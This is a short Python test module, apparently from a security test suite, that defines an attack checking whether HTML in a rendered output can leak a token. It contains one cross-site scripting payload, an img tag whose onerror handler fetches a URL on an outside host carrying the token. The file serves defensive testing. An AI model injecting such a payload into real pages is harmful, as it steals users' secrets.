"""Markup of an output has a handler that fetches."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    return ground.leave_by_html(f"<img src=x onerror=fetch('http://{WEB}/{ground.token}')>", "HTML")


ATTACK = Attack(
    "markup in an output",
    attempt,
    unrecorded="Markup is always cleaned, or loads nothing by the page's policy; the cell that made it is recorded.",
)
